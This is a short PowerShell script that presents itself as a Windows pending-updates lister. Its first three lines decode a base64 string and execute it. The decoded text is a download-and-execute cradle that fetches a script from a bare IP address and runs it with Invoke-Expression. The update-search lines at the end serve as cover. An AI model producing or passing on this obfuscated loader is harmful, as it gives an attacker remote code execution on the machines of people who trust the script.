$s = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA2ADEALwB1AC4AcABzADEAJwApAA=="
$c = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($s))
& ([scriptblock]::Create($c))
$session = New-Object -ComObject Microsoft.Update.Session
$searcher = $session.CreateUpdateSearcher()
$searcher.Search("IsInstalled=0").Updates | ForEach-Object { "$($_.Title)" }
